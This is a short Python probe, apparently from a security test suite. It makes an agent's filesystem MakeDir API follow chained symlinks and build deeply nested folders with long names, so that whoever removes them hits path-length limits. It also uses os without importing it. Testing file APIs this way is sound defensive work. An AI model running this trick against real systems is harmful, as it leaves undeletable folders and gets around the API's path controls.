# Has the file API make folders behind its descriptors until their path is too long for whoever removes them.
# Control: a file API that opens what it is told

import tempfile

LEVELS, LENGTH = 17, 240


def attempt(way):
    folder, made = tempfile.mkdtemp(), 0
    for level in range(LEVELS):
        name = f"{os.getpid()}-{level}-".ljust(LENGTH, "x")
        link = os.path.join(folder, str(level))
        os.symlink(way if level == 0 else f"{folder}/{level - 1}/{last}", link)
        if ask_agent("filesystem.Filesystem/MakeDir", path=f"{link}/{name}") is None:
            return None
        last, made = name, made + 1
    return f"{made} folders, {made * (LENGTH + 1)} characters deep"


attack(lambda: behind_descriptors(attempt))
